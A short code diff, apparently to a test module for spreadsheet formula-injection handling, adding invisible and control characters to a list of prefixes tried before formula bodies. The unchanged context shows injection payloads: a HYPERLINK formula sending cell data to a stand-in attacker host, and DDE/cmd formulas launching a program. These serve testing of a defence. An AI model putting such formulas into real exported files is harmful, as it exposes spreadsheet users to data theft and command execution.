@@ -10,6 +10,7 @@ _STARTS = (
 )  # fmt: skip
 _BEFORE = (
     "", "", "", " ", "\u3000", "\xa0", "\u200b", "\u200e", "\u2060", "\ufeff", "\x00", "\x0b", "\x1f", " \t", "\u2028", "\x85",
+    "\xad", "\u202a", "\u2066", "\x7f", "\x9f",
 )  # fmt: skip
 _BODIES = (
     "1+1", "SUM(A1:A9)", 'HYPERLINK("http://evil.example/?"&A1,"点此")', "cmd|'/c calc'!A0", 'DDE("cmd";"/c calc";"x")',
